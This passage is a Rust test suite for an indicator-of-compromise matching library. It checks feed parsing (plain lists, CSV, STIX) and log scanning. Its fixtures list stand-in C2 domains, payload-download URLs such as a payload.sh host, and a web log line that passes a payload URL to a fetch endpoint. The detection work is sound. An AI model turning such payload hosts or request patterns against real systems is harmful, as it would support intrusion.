use super::parse::{Hint, Parsed, parse, type_hint};
use super::stix::{PatternError, parse_pattern, parse_rfc3339};
use super::*;
use std::net::IpAddr;
use std::path::Path;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

/// 2024-06-01T00:00:00Z.
fn now() -> SystemTime {
    UNIX_EPOCH + Duration::from_secs(1_717_200_000)
}

fn set_of(list: &str) -> IocSet {
    let mut set = IocSet::new();
    let (stats, errors) = set.add_file("feed.txt", list.as_bytes(), now());
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(stats.errors, 0);
    set
}

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn value(set: &IocSet, id: Option<IocId>) -> Option<&str> {
    id.map(|id| &*set.indicator(id).value)
}

fn scan(set: &IocSet, text: &str) -> Vec<String> {
    let mut out = Vec::new();
    set.scan_text(text, |id| out.push(set.indicator(id).value.to_string()));
    out
}

#[test]
fn kinds_are_detected_and_canonical() {
    let cases = [
        ("1.2.3.4", IocKind::Ipv4, "1.2.3.4"),
        ("2001:DB8::1", IocKind::Ipv6, "2001:db8::1"),
        ("::ffff:5.6.7.8", IocKind::Ipv4, "5.6.7.8"),
        ("10.1.2.3/8", IocKind::Cidr, "10.0.0.0/8"),
        ("9.9.9.9/32", IocKind::Ipv4, "9.9.9.9"),
        ("2001:db8:abcd::/48", IocKind::Cidr, "2001:db8:abcd::/48"),
        ("::ffff:192.168.0.0/112", IocKind::Cidr, "192.168.0.0/16"),
        ("Evil.COM.", IocKind::Domain, "evil.com"),
        ("*.wild.example", IocKind::Domain, "wild.example"),
        (
            "hxxp://bad[.]example/x",
            IocKind::Url,
            "http://bad.example/x",
        ),
        (
            "HTTPS://Bad.Example:443/Path?Q=1#frag",
            IocKind::Url,
            "https://bad.example/Path?Q=1",
        ),
        (
            "D41D8CD98F00B204E9800998ECF8427E",
            IocKind::Md5,
            "d41d8cd98f00b204e9800998ecf8427e",
        ),
        (
            "da39a3ee5e6b4b0d3255bfef95601890afd80709",
            IocKind::Sha1,
            "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        ),
        (
            "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
            IocKind::Sha256,
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        ),
    ];
    for (text, kind, canonical) in cases {
        let p = parse(text, Hint::Auto).unwrap_or_else(|e| panic!("{text}: {e}"));
        assert_eq!(p.kind(), kind, "{text}");
        assert_eq!(p.canonical(), canonical, "{text}");
    }
    for bad in [
        "",
        "hello",
        "1.2.3.4.5",
        "1.2.3.4/33",
        "::1/129",
        "evil..com",
        "exa mple.com",
        "bücher.de",
        "1.2.3.999",
        "abc://",
        "deadbeef",
    ] {
        assert!(parse(bad, Hint::Auto).is_err(), "{bad:?} parsed");
    }
    // Typed values: a single label is a domain when the feed says so; an IP typed as a domain
    // is still an IP.
    assert_eq!(
        parse("localhost", Hint::Domain).unwrap(),
        Parsed::Domain("localhost".into())
    );
    assert_eq!(
        parse("1.2.3.4", Hint::Domain).unwrap().kind(),
        IocKind::Ipv4
    );
    assert!(parse("1.2.3.4", Hint::Md5).is_err());
    assert_eq!(
        parse("evil.com/a", Hint::Url).unwrap().canonical(),
        "http://evil.com/a"
    );
}

#[test]
fn ip_exact_and_longest_prefix() {
    let set = set_of("10.0.0.0/8\n10.1.0.0/16\n10.1.2.3\n2001:db8::/32\n2001:db8:1::/48\n");
    assert_eq!(value(&set, set.match_ip(ip("10.1.2.3"))), Some("10.1.2.3"));
    assert_eq!(
        value(&set, set.match_ip(ip("10.1.9.9"))),
        Some("10.1.0.0/16")
    );
    assert_eq!(
        value(&set, set.match_ip(ip("10.200.0.1"))),
        Some("10.0.0.0/8")
    );
    assert_eq!(set.match_ip(ip("11.0.0.1")), None);
    assert_eq!(
        value(&set, set.match_ip(ip("2001:db8:1::5"))),
        Some("2001:db8:1::/48")
    );
    assert_eq!(
        value(&set, set.match_ip(ip("2001:db8:ffff::5"))),
        Some("2001:db8::/32")
    );
    assert_eq!(set.match_ip(ip("2001:db9::1")), None);
    // The per-prefix maps are kept longest first.
    let prefixes: Vec<u8> = set.v4_nets.iter().map(|n| n.prefix).collect();
    assert_eq!(prefixes, [16, 8]);
    // A /0 covers everything of its family.
    let all = set_of("0.0.0.0/0\n");
    assert!(all.match_ip(ip("203.0.113.9")).is_some());
    assert!(all.match_ip(ip("2001:db8::1")).is_none());
}

#[test]
fn ipv4_mapped_ipv6_matches_ipv4_indicators() {
    let set = set_of("192.0.2.7\n198.51.100.0/24\n::/0\n");
    assert_eq!(
        value(&set, set.match_ip(ip("::ffff:192.0.2.7"))),
        Some("192.0.2.7")
    );
    assert_eq!(
        value(&set, set.match_ip(ip("::ffff:198.51.100.200"))),
        Some("198.51.100.0/24")
    );
    // Not in any IPv4 indicator: the IPv6 networks still apply.
    assert_eq!(
        value(&set, set.match_ip(ip("::ffff:8.8.8.8"))),
        Some("::/0")
    );
    // A feed's mapped address matches plain IPv4 events.
    let set = set_of("::ffff:203.0.113.5\n");
    assert!(set.match_ip(ip("203.0.113.5")).is_some());
}

#[test]
fn domains_match_subdomains_not_lookalikes() {
    let set = set_of("evil.com\nsub.Other.ORG.\n");
    for hit in [
        "evil.com",
        "EVIL.COM",
        "a.b.evil.com",
        "evil.com.",
        "x.Evil.Com.",
    ] {
        assert_eq!(
            value(&set, set.match_domain(hit)),
            Some("evil.com"),
            "{hit}"
        );
    }
    for miss in [
        "notevil.com",
        "evil.co",
        "evil.com.au",
        "evilcom",
        "com",
        "",
        ".",
        "evil.comx",
        "xevil.com",
    ] {
        assert_eq!(set.match_domain(miss), None, "{miss}");
    }
    assert!(set.match_domain("deep.sub.other.org").is_some());
    assert_eq!(set.match_domain("other.org"), None);
    // The nearest listed parent wins.
    let set = set_of("evil.com\nb.evil.com\n");
    assert_eq!(
        value(&set, set.match_domain("a.b.evil.com")),
        Some("b.evil.com")
    );
    assert_eq!(
        value(&set, set.match_domain("c.evil.com")),
        Some("evil.com")
    );
    // Non-ASCII input is only compared, never mangled.
    assert_eq!(set.match_domain("ёvil.x.evil.com"), Some(IocId(0)));
    assert_eq!(set.match_domain("évil.com"), None);
}

#[test]
fn url_normalisation() {
    let set = set_of(
        "http://Evil.Example/Download/Payload.exe?id=7#top\n\
         https://evil.example:8443/a\n\
         ftp://files.example\n",
    );
    for hit in [
        "http://evil.example/Download/Payload.exe?id=7",
        "HTTP://EVIL.EXAMPLE/Download/Payload.exe?id=7",
        "http://evil.example:80/Download/Payload.exe?id=7",
        "http://evil.example.:080/Download/Payload.exe?id=7#other",
    ] {
        assert_eq!(
            value(&set, set.match_url(hit)),
            Some("http://evil.example/Download/Payload.exe?id=7"),
            "{hit}"
        );
    }
    for miss in [
        "http://evil.example/download/payload.exe?id=7",
        "https://evil.example/Download/Payload.exe?id=7",
        "http://evil.example/Download/Payload.exe?id=8",
        "http://evil.example:8080/Download/Payload.exe?id=7",
        "https://evil.example/a",
        "evil.example/a",
        "",
    ] {
        assert_eq!(set.match_url(miss), None, "{miss}");
    }
    assert!(set.match_url("https://EVIL.example:8443/a#x").is_some());
    assert_eq!(
        value(&set, set.match_url("FTP://files.example:21")),
        Some("ftp://files.example/")
    );
    assert!(set.match_url("ftp://files.example/?").is_none());
}

/// A line that is one long run of URL bytes with a `://` every few bytes: each scheme used to be
/// read to the end of the run, and each closing bracket to trim rescanned the URL, quadratic in
/// the line (hours for a megabyte). URLs nearby are still found.
#[test]
fn long_runs_of_urls_are_scanned_once() {
    let set = set_of("http://evil.example/x\n");
    let junk = format!("{}{}", "http://".repeat(150_000), ")".repeat(100_000));
    assert!(scan(&set, &junk).is_empty());
    assert_eq!(set.find_hash_or_url(&junk, true, true), None);
    let a = "a://".repeat(250_000);
    assert_eq!(set.find_hash_or_url(&a, true, true), None);
    let line = format!("{junk} then http://evil.example/x).");
    assert_eq!(scan(&set, &line), vec!["http://evil.example/x"]);
    let field = format!("{junk} http://evil.example/x");
    assert!(set.find_hash_or_url(&field, false, true).is_some());
}

#[test]
fn hashes_any_case() {
    let md5 = "44d88612fea8a8f36de82e1278abb02f";
    let sha1 = "3395856ce81f2b7382dee72602f798b642f14140";
    let sha256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";
    let set = set_of(&format!("{md5}\n{}\n{sha256}\n", sha1.to_uppercase()));
    assert_eq!(value(&set, set.match_hash(&md5.to_uppercase())), Some(md5));
    assert_eq!(value(&set, set.match_hash(sha1)), Some(sha1));
    assert_eq!(value(&set, set.match_hash(sha256)), Some(sha256));
    assert_eq!(set.match_hash(&sha256[..63]), None);
    assert_eq!(set.match_hash(&format!("{}g", &sha256[..63])), None);
    assert_eq!(set.match_hash("00000000000000000000000000000000"), None);
    assert_eq!(set.count(IocKind::Md5), 1);
    assert_eq!(set.count(IocKind::Sha1), 1);
    assert_eq!(set.count(IocKind::Sha256), 1);
}

#[test]
fn plain_list_comments_labels_and_errors() {
    let list = "# feed header\n\
                \n\
                1.2.3.4 # ssh brute force\n\
                evil.com phishing\n\
                0.0.0.0 ads.example\n\
                not_an_indicator\n\
                http://x.example/#frag\n\
                1.2.3.4\n\
                \t  \n\
                999.1.1.1\n";
    let mut set = IocSet::new();
    let (stats, errors) = set.add_file("list", list.as_bytes(), now());
    assert_eq!(stats.format, Format::List);
    assert_eq!((stats.added, stats.duplicates, stats.errors), (4, 1, 2));
    let lines: Vec<usize> = errors.iter().map(|e| e.line).collect();
    assert_eq!(lines, [6, 10]);
    assert_eq!(errors[0].file, "list");
    assert!(
        errors[0]
            .to_string()
            .starts_with("list:6: `not_an_indicator`")
    );
    let id = set.match_ip(ip("1.2.3.4")).unwrap();
    assert_eq!(set.indicator(id).label.as_deref(), Some("ssh brute force"));
    assert_eq!(&*set.indicator(id).source, "list");
    let id = set.match_domain("evil.com").unwrap();
    assert_eq!(set.indicator(id).label.as_deref(), Some("phishing"));
    assert!(set.match_domain("ads.example").is_some());
    assert!(set.match_url("http://x.example/").is_some());
}

#[test]
fn csv_with_quotes_types_and_labels() {
    let csv = "Type,Indicator,Description,extra\r\n\
               ipv4-addr,198.51.100.1,\"C2, stage 2\",x\r\n\
               domain-name,bad.example,\"the \"\"bad\"\" one\",\r\n\
               file:hashes.'SHA-256',E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855,\"multi\nline\",\r\n\
               url,hxxps://bad[.]example/login,,\r\n\
               email,someone@example.com,not handled,\r\n\
               md5,not-a-hash,oops,\r\n\
               ,203.0.113.0/24,auto-detected,\r\n\
               \r\n\
               short\r\n";
    let mut set = IocSet::new();
    let (stats, errors) = set.add_file("feed.CSV", csv.as_bytes(), now());
    assert_eq!(stats.format, Format::Csv);
    assert_eq!(
        (stats.added, stats.skipped, stats.errors),
        (5, 1, 2),
        "{errors:?}"
    );
    // The quoted line break moves the rows after it down a line.
    assert_eq!(errors[0].line, 8);
    assert!(errors[0].message.contains("MD5"), "{}", errors[0].message);
    assert_eq!(errors[1].line, 11);
    let label = |id: Option<IocId>| {
        set.indicator(id.unwrap())
            .label
            .as_deref()
            .map(String::from)
    };
    assert_eq!(
        label(set.match_ip(ip("198.51.100.1"))).as_deref(),
        Some("C2, stage 2")
    );
    assert_eq!(
        label(set.match_domain("x.bad.example")).as_deref(),
        Some("the \"bad\" one")
    );
    assert_eq!(
        label(set.match_hash("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"))
            .as_deref(),
        Some("multi\nline")
    );
    assert!(set.match_url("https://bad.example/login").is_some());
    assert!(set.match_ip(ip("203.0.113.77")).is_some());
}

#[test]
fn csv_header_column_choice() {
    // `indicator` wins over `value`; the type word list is lenient.
    let csv = "value,IOC_Type,indicator\nignored,FileHash-MD5,44d88612fea8a8f36de82e1278abb02f\n";
    let mut set = IocSet::new();
    let (stats, errors) = set.add_file("a.csv", csv.as_bytes(), now());
    assert_eq!((stats.added, errors.len()), (1, 0), "{errors:?}");
    // abuse.ch style: commented header, a `url` column.
    let csv = "################\n\
               # id,dateadded,url,url_status\n\
               \"1\",\"2024-01-01\",\"http://mal.example/bin.sh\",\"online\"\n\
               \"2\",\"2024-01-01\",\"http://mal.example/x86\",\"online\"\n";
    let mut set = IocSet::new();
    let (stats, errors) = set.add_file("urlhaus.csv", csv.as_bytes(), now());
    assert_eq!((stats.added, errors.len()), (2, 0), "{errors:?}");
    assert!(set.match_url("http://mal.example/x86").is_some());
    // No known column: one error, nothing loaded.
    let mut set = IocSet::new();
    let (stats, errors) = set.add_file("b.csv", b"foo,bar\n1.2.3.4,x\n", now());
    assert_eq!((stats.added, stats.errors), (0, 1));
    assert_eq!(errors[0].line, 1);
    // An unclosed quote is reported, the value still read.
    let mut set = IocSet::new();
    let (stats, errors) = set.add_file("c.csv", b"ioc\n\"1.2.3.4\n", now());
    assert_eq!((stats.added, stats.errors), (1, 1), "{errors:?}");
    assert_eq!(errors[0].line, 2);
}

#[test]
fn type_words() {
    for (t, h) in [
        ("ip", Some(Hint::Ip)),
        ("IPv4", Some(Hint::Ip)),
        ("ip-dst", Some(Hint::Ip)),
        ("ipv6-addr", Some(Hint::Ip)),
        ("CIDR", Some(Hint::Ip)),
        ("hostname", Some(Hint::Domain)),
        ("FQDN", Some(Hint::Domain)),
        ("domain-name", Some(Hint::Domain)),
        ("URL", Some(Hint::Url)),
        ("uri", Some(Hint::Url)),
        ("file:hashes.md5", Some(Hint::Md5)),
        ("FileHash-SHA1", Some(Hint::Sha1)),
        ("SHA-1", Some(Hint::Sha1)),
        ("file:hashes.'SHA-256'", Some(Hint::Sha256)),
        ("hash", Some(Hint::Hash)),
        ("", Some(Hint::Auto)),
        ("email-src", None),
        ("filename", None),
        ("mutex", None),
    ] {
        assert_eq!(type_hint(t), h, "{t}");
    }
}

#[test]
fn stix_patterns() {
    let ok = |p: &str| parse_pattern(p).unwrap_or_else(|e| panic!("{p}: {e:?}"));
    assert_eq!(
        ok("[ipv4-addr:value = '1.2.3.4']"),
        [(Hint::Ip, "1.2.3.4".to_string())]
    );
    assert_eq!(
        ok(
            "[ipv4-addr:value = '10.0.0.0/8' OR domain-name:value = 'x.com'] OR [url:value = 'http://a/b\\'c']"
        ),
        [
            (Hint::Ip, "10.0.0.0/8".to_string()),
            (Hint::Domain, "x.com".to_string()),
            (Hint::Url, "http://a/b'c".to_string()),
        ]
    );
    assert_eq!(
        ok(
            "([file:hashes.'SHA-256' = 'aa'] OR [file:hashes.MD5 = 'bb']) or [file:hashes.'SHA-1' = 'cc']"
        ),
        [
            (Hint::Sha256, "aa".to_string()),
            (Hint::Md5, "bb".to_string()),
            (Hint::Sha1, "cc".to_string()),
        ]
    );
    // Unsupported paths inside an OR are left out.
    assert_eq!(
        ok("[email-addr:value = 'a@b.c' OR ipv6-addr:value = '::1']"),
        [(Hint::Ip, "::1".to_string())]
    );
    let unsupported = |p: &str| matches!(parse_pattern(p), Err(PatternError::Unsupported(_)));
    assert!(unsupported(
        "[ipv4-addr:value = '1.2.3.4' AND network-traffic:dst_port = 443]"
    ));
    assert!(unsupported(
        "[ipv4-addr:value = '1.2.3.4'] AND [domain-name:value = 'x.com']"
    ));
    assert!(unsupported(
        "[ipv4-addr:value = '1.2.3.4'] FOLLOWEDBY [domain-name:value = 'x.com']"
    ));
    assert!(unsupported("[domain-name:value LIKE '%.x.com']"));
    assert!(unsupported("[ipv4-addr:value != '1.2.3.4']"));
    assert!(unsupported("[email-addr:value = 'a@b.c']"));
    assert!(unsupported("[file:hashes.'SHA-512' = 'aa']"));
    assert!(unsupported(
        "[ipv4-addr:value = '1.2.3.4'] WITHIN 300 SECONDS"
    ));
    assert!(unsupported(
        "[file:extensions.'windows-pebinary-ext'.sections[*].name = 'x']"
    ));
    let invalid = |p: &str| matches!(parse_pattern(p), Err(PatternError::Invalid(_)));
    for p in [
        "",
        "ipv4-addr:value = '1.2.3.4'",
        "[ipv4-addr:value = '1.2.3.4'",
        "[ipv4-addr:value = '1.2.3.4]",
        "[ipv4-addr:value '1.2.3.4']",
        "[ipv4-addr:value = 1234]",
        "[ipv4-addr:value = '1.2.3.4'] OR",
        "[ipv4-addr:value = '1.2.3.4'] [url:value = 'x']",
        "[ipv4-addr:value = '1.2.3.4' url:value = 'x']",
        "[ipv4-addr:value = '1.2.3.4'] ~",
    ] {
        assert!(invalid(p), "{p:?}: {:?}", parse_pattern(p));
    }
    assert!(
        unsupported("[file:x.values[12].name = 'x']"),
        "an indexed list step"
    );
    // `a[a[a[...`: each `[` used to search the rest of the pattern for its `]` (quadratic).
    let brackets = format!("[{} = 'x']", "a[".repeat(1 << 20));
    assert!(parse_pattern(&brackets).is_err());
}

#[test]
fn rfc3339() {
    assert_eq!(parse_rfc3339("1970-01-01T00:00:00Z"), Some(0));
    assert_eq!(parse_rfc3339("2024-06-01T00:00:00Z"), Some(1_717_200_000));
    assert_eq!(
        parse_rfc3339("2024-06-01T00:00:00.123456Z"),
        Some(1_717_200_000)
    );
    assert_eq!(
        parse_rfc3339("2024-06-01T02:00:00+02:00"),
        Some(1_717_200_000)
    );
    assert_eq!(
        parse_rfc3339("2024-05-31t23:00:00-01:00"),
        Some(1_717_200_000)
    );
    assert_eq!(parse_rfc3339("2000-02-29T00:00:00Z"), Some(951_782_400));
    for bad in [
        "",
        "2024-06-01",
        "2024-06-01T00:00:00",
        "2024-13-01T00:00:00Z",
        "2024-06-01T00:00:00.Z",
        "2024-06-01T00:00:00+0200",
        "2024-06-01T00:00:00Zjunk",
        "２024-06-01T00:00:00Z",
    ] {
        assert_eq!(parse_rfc3339(bad), None, "{bad}");
    }
}

const BUNDLE: &str = r#"{
  "type": "bundle",
  "id": "bundle--1",
  "objects": [
    {"type": "identity", "id": "identity--1", "name": "feed"},
    {
      "type": "indicator",
      "id": "indicator--a",
      "name": "C2 servers",
      "pattern_type": "stix",
      "pattern": "[ipv4-addr:value = '198.51.100.7'] OR [ipv4-addr:value = '203.0.113.0/24']",
      "valid_from": "2024-01-01T00:00:00Z"
    },
    {
      "type": "indicator",
      "id": "indicator--b",
      "description": "dropper",
      "pattern": "[file:hashes.'SHA-256' = 'E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855' OR file:hashes.MD5 = '44d88612fea8a8f36de82e1278abb02f']",
      "valid_until": "2030-01-01T00:00:00Z"
    },
    {
      "type": "indicator",
      "id": "indicator--revoked",
      "revoked": true,
      "pattern": "[domain-name:value = 'revoked.example']"
    },
    {
      "type": "indicator",
      "id": "indicator--expired",
      "valid_until": "2024-05-31T23:59:59Z",
      "pattern": "[domain-name:value = 'expired.example']"
    },
    {
      "type": "indicator",
      "id": "indicator--yara",
      "pattern_type": "yara",
      "pattern": "rule x { condition: true }"
    },
    {
      "type": "indicator",
      "id": "indicator--and",
      "pattern": "[ipv4-addr:value = '1.1.1.1' AND network-traffic:dst_port = 53]"
    },
    {
      "type": "indicator",
      "id": "indicator--bad",
      "pattern": "[domain-name:value = 'unterminated]"
    },
    {
      "type": "indicator",
      "id": "indicator--badvalue",
      "name": "bad value",
      "pattern": "[ipv6-addr:value = 'not-an-ip'] OR [domain-name:value = 'Good.Example']"
    },
    {
      "type": "indicator",
      "id": "indicator--url",
      "name": "phish",
      "pattern": "[url:value = 'HTTPS://Login.Example:443/verify#x']"
    }
  ]
}"#;

#[test]
fn a_feed_says_how_sure_it_is_in_a_column_or_a_stix_property() {
    let csv = "indicator,confidence,comment\n\
               198.51.100.1,90,c2\n\
               198.51.100.2,low,scanner\n\
               198.51.100.3,,unknown\n\
               198.51.100.4,very,typo\n\
               198.51.100.5,37.6,decimal\n";
    let mut set = IocSet::new();
    let (stats, errors) = set.add_file("feed.csv", csv.as_bytes(), now());
    assert_eq!((stats.added, stats.errors), (5, 1), "{errors:?}");
    assert_eq!(errors[0].line, 5);
    assert!(
        errors[0].message.contains("confidence `very`"),
        "{}",
        errors[0].message
    );
    let confidence = |addr: &str| set.indicator(set.match_ip(ip(addr)).unwrap()).confidence;
    assert_eq!(confidence("198.51.100.1"), Some(90));
    assert_eq!(confidence("198.51.100.2"), Some(15));
    assert_eq!(confidence("198.51.100.3"), None);
    // A confidence that does not read is reported, and the indicator kept without one.
    assert_eq!(confidence("198.51.100.4"), None);
    assert_eq!(confidence("198.51.100.5"), Some(38));

    let stix = r#"{"type": "bundle", "id": "bundle--1", "objects": [
        {"type": "indicator", "id": "indicator--a", "pattern": "[ipv4-addr:value = '203.0.113.1']",
         "pattern_type": "stix", "valid_from": "2020-01-01T00:00:00Z", "confidence": 20},
        {"type": "indicator", "id": "indicator--b", "pattern": "[ipv4-addr:value = '203.0.113.2']",
         "pattern_type": "stix", "valid_from": "2020-01-01T00:00:00Z", "confidence": 400},
        {"type": "indicator", "id": "indicator--c", "pattern": "[ipv4-addr:value = '203.0.113.3']",
         "pattern_type": "stix", "valid_from": "2020-01-01T00:00:00Z"}]}"#;
    let mut set = IocSet::new();
    let (stats, errors) = set.add_file("feed.json", stix.as_bytes(), now());
    assert_eq!(stats.added, 3, "{errors:?}");
    let confidence = |addr: &str| set.indicator(set.match_ip(ip(addr)).unwrap()).confidence;
    assert_eq!(confidence("203.0.113.1"), Some(20));
    assert_eq!(confidence("203.0.113.2"), None, "out of the STIX range");
    assert_eq!(confidence("203.0.113.3"), None);
    // Plain lists say nothing about confidence.
    assert_eq!(set_of("192.0.2.1").indicator(IocId(0)).confidence, None);
}

#[test]
fn stix_bundle() {
    let mut set = IocSet::new();
    let (stats, errors) = set.add_file("feed.json", BUNDLE.as_bytes(), now());
    assert_eq!(stats.format, Format::Stix);
    assert_eq!(
        (stats.added, stats.skipped, stats.errors),
        (6, 4, 2),
        "{errors:?}"
    );
    assert_eq!(errors[0].line, 46, "{}", errors[0]);
    assert!(errors[0].message.contains("indicator--bad"));
    assert_eq!(errors[1].line, 51, "{}", errors[1]);
    assert!(errors[1].message.contains("not-an-ip"));
    let id = set.match_ip(ip("203.0.113.50")).unwrap();
    assert_eq!(set.indicator(id).label.as_deref(), Some("C2 servers"));
    assert_eq!(&*set.indicator(id).source, "feed.json");
    let id = set.match_hash("44D88612FEA8A8F36DE82E1278ABB02F").unwrap();
    assert_eq!(set.indicator(id).label.as_deref(), Some("dropper"));
    assert!(set.match_domain("good.example").is_some());
    assert!(set.match_url("https://login.example/verify").is_some());
    assert!(set.match_domain("revoked.example").is_none());
    assert!(set.match_domain("expired.example").is_none());
    assert!(set.match_ip(ip("1.1.1.1")).is_none());
    // After its valid_until, the dropper is skipped too.
    let later = UNIX_EPOCH + Duration::from_secs(1_900_000_000);
    let mut set = IocSet::new();
    let (stats, _) = set.add_file("feed.json", BUNDLE.as_bytes(), later);
    assert_eq!((stats.added, stats.skipped), (4, 5));
}

#[test]
fn stix_shapes_and_broken_json() {
    let single = br#"{"type":"indicator","id":"indicator--1","pattern":"[domain-name:value = 'one.example']"}"#;
    let mut set = IocSet::new();
    let (stats, _) = set.add_file("one.stix", single, now());
    assert_eq!(stats.added, 1);
    let mut set = IocSet::new();
    let (stats, errors) = set.add_file(
        "broken.json",
        b"{\n\"type\": \"bundle\",\n\"objects\": [\n",
        now(),
    );
    assert_eq!(stats.errors, 1);
    assert_eq!(errors[0].line, 4);
    assert!(errors[0].message.starts_with("not valid JSON"));
    let (stats, _) = set.add_file("other.json", br#"{"hello": "world"}"#, now());
    assert_eq!(stats.errors, 1);
    // Content decides for an unknown extension.
    let (stats, _) = set.add_file("feed.ioc", single, now());
    assert_eq!((stats.format, stats.added), (Format::Stix, 1));
}

#[test]
fn duplicates_across_files_keep_the_first() {
    let dir = std::env::temp_dir().join(format!("watchpost-ioc-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("sub")).unwrap();
    std::fs::write(dir.join("a.txt"), "evil.com # from a\n1.2.3.4\n").unwrap();
    std::fs::write(
        dir.join("b.csv"),
        "indicator,comment\nEVIL.com.,from b\n5.6.7.8,\n",
    )
    .unwrap();
    std::fs::write(dir.join("c.json"), BUNDLE).unwrap();
    std::fs::write(dir.join(".hidden.txt"), "hidden.example\n").unwrap();
    std::fs::write(dir.join("sub").join("d.txt"), "nested.example\n").unwrap();
    let load = IocSet::load_dir(&dir, now());
    let _ = std::fs::remove_dir_all(&dir);
    let files: Vec<(&str, usize, usize)> = load
        .files
        .iter()
        .map(|f| (f.file.as_str(), f.added, f.duplicates))
        .collect();
    assert_eq!(files, [("a.txt", 2, 0), ("b.csv", 1, 1), ("c.json", 6, 0)]);
    assert_eq!(load.errors.len(), 2);
    assert!(load.errors.iter().all(|e| e.file == "c.json"));
    let set = &load.set;
    assert_eq!(set.len(), 9);
    let id = set.match_domain("evil.com").unwrap();
    assert_eq!(&*set.indicator(id).source, "a.txt");
    assert_eq!(set.indicator(id).label.as_deref(), Some("from a"));
    assert!(set.match_domain("hidden.example").is_none());
    assert!(set.match_domain("nested.example").is_none());
    let total: usize = set.counts().iter().map(|(_, n)| n).sum();
    assert_eq!(total, set.len());

    let missing = IocSet::load_dir(Path::new("/nonexistent/watchpost-ioc"), now());
    assert!(missing.set.is_empty());
    assert_eq!(missing.errors.len(), 1);
}

#[test]
fn garbage_never_panics() {
    let mut seed = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let alphabet: &[u8] =
        b"0123456789abcdefABCDEF.:/[]{}()'\",#@%-_ \n\r\t=\\\xff\xfe\xc3\xa9\x00ORAND";
    let mut set = IocSet::new();
    set.add("evil.com", None, "t", None).unwrap();
    set.add("http://evil.com/x", None, "t", None).unwrap();
    set.add("10.0.0.0/8", None, "t", None).unwrap();
    set.add("::1", None, "t", None).unwrap();
    set.add("44d88612fea8a8f36de82e1278abb02f", None, "t", None)
        .unwrap();
    for round in 0..400 {
        let len = (next() % 300) as usize;
        let bytes: Vec<u8> = (0..len)
            .map(|_| {
                if next() % 4 == 0 {
                    (next() & 0xff) as u8
                } else {
                    alphabet[(next() % alphabet.len() as u64) as usize]
                }
            })
            .collect();
        for name in ["g.txt", "g.csv", "g.json", "g.bin"] {
            let (stats, errors) = set.add_file(name, &bytes, now());
            assert!(errors.len() <= 100);
            assert!(stats.errors >= errors.len());
        }
        let text = String::from_utf8_lossy(&bytes);
        set.scan_text(&text, |_| {});
        let _ = set.match_domain(&text);
        let _ = set.match_url(&text);
        let _ = set.match_hash(&text);
        let _ = parse_pattern(&text);
        let _ = parse_rfc3339(&text);
        let _ = round;
    }
    // Invalid UTF-8 in a list: the bad line is reported, the good ones load.
    let mut set = IocSet::new();
    let (stats, errors) = set.add_file(
        "bad.txt",
        b"good.example\n\xff\xfe\xfd\nalso.example\n",
        now(),
    );
    assert_eq!((stats.added, stats.errors), (2, 1));
    assert_eq!(errors[0].line, 2);
    // Binary with an unknown extension is not read line by line.
    let (stats, errors) = set.add_file("blob.bin", b"\x00\x01\x02evil.com\n", now());
    assert_eq!(
        (stats.format, stats.errors, errors.len()),
        (Format::Skipped, 1, 1)
    );
    // Many bad lines: the errors listed are capped, the count is not.
    let many = "bad line\n".repeat(500);
    let (stats, errors) = set.add_file("many.txt", many.as_bytes(), now());
    assert_eq!((stats.errors, errors.len()), (500, 100));
}

fn log_set() -> IocSet {
    set_of(
        "203.0.113.66\n\
         2001:db8:bad::/48\n\
         malware-c2.example\n\
         http://dl.badhost.example/payload.sh\n\
         e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n\
         44d88612fea8a8f36de82e1278abb02f\n\
         198.51.100.0/24\n",
    )
}

#[test]
fn scan_sshd() {
    let set = log_set();
    assert_eq!(
        scan(
            &set,
            "Jun  1 03:12:45 web01 sshd[2241]: Failed password for invalid user admin from 203.0.113.66 port 52144 ssh2"
        ),
        ["203.0.113.66"]
    );
    assert_eq!(
        scan(
            &set,
            "sshd[99]: Accepted publickey for root from 2001:db8:bad::17 port 22: RSA SHA256:abc"
        ),
        ["2001:db8:bad::/48"]
    );
    assert!(
        scan(
            &set,
            "Jun  1 03:12:45 web01 sshd[2241]: Accepted password for bob from 192.0.2.1 port 22"
        )
        .is_empty()
    );
}

#[test]
fn scan_nginx_access_log() {
    let set = log_set();
    let line = r#"198.51.100.23 - - [01/Jun/2024:03:12:45 +0000] "GET /fetch?u=http://dl.badhost.example/payload.sh HTTP/1.1" 200 512 "https://www.malware-c2.example/landing" "curl/8.0""#;
    assert_eq!(
        scan(&set, line),
        [
            "198.51.100.0/24",
            "http://dl.badhost.example/payload.sh",
            "malware-c2.example",
        ]
    );
    // Each indicator once per call.
    let twice = format!("{line} {line}");
    assert_eq!(scan(&set, &twice).len(), 3);
    // Trailing punctuation and the default port do not hide a URL.
    assert_eq!(
        scan(&set, "see (HTTP://DL.BADHOST.EXAMPLE:80/payload.sh)."),
        ["http://dl.badhost.example/payload.sh"]
    );
}

#[test]
fn scan_dns_query_log() {
    let set = log_set();
    assert_eq!(
        scan(
            &set,
            "client @0x7f 10.0.0.5#53124 (beacon.MALWARE-C2.example): query: beacon.MALWARE-C2.example. IN A +E(0) (10.0.0.1)"
        ),
        ["malware-c2.example"]
    );
    assert!(
        scan(
            &set,
            "query: notmalware-c2.example IN A; query: malware-c2.example.org IN AAAA"
        )
        .is_empty()
    );
    // host:port and key=value forms.
    assert_eq!(
        scan(
            &set,
            "conn dst=malware-c2.example:443 src=[2001:db8::1]:5000"
        ),
        ["malware-c2.example"]
    );
    assert_eq!(
        scan(&set, "peer 203.0.113.66:8443 closed"),
        ["203.0.113.66"]
    );
}

#[test]
fn scan_sysmon_hashes() {
    let set = log_set();
